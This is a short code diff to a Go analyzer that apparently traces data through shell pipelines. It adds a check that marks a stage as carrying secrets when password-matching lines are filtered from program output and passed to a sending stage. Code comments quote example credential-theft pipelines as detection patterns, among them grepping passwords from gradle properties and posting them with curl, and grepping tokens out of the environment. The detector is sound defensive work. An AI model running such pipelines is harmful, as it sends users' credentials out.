@@ -857,6 +857,16 @@ func (a *analysis) flows() {
 				tainted = slices.Insert(tainted, k, i)
 			}
 		}
+		if (taint[i] == "" || taint[i] == "output") && a.picksSecretsToSend(cmds, i) {
+			// ./gradlew properties | grep -i password | curl -d @- URL:
+			// the lines naming a secret, picked out of any program's
+			// output and handed on to a stage that sends them
+			if taint[i] == "" {
+				k, _ := slices.BinarySearch(tainted, i)
+				tainted = slices.Insert(tainted, k, i)
+			}
+			taint[i], origin[i] = "secret", c.Name
+		}
 		if in == "environment" && len(f.writes) == 0 && f.sink == "" && picksSecrets(c) && a.reachesAgent(cmds, i) {
 			// env | grep -iE 'token|secret|key': the variables that hold
 			// secrets, picked out of the environment into the agent's
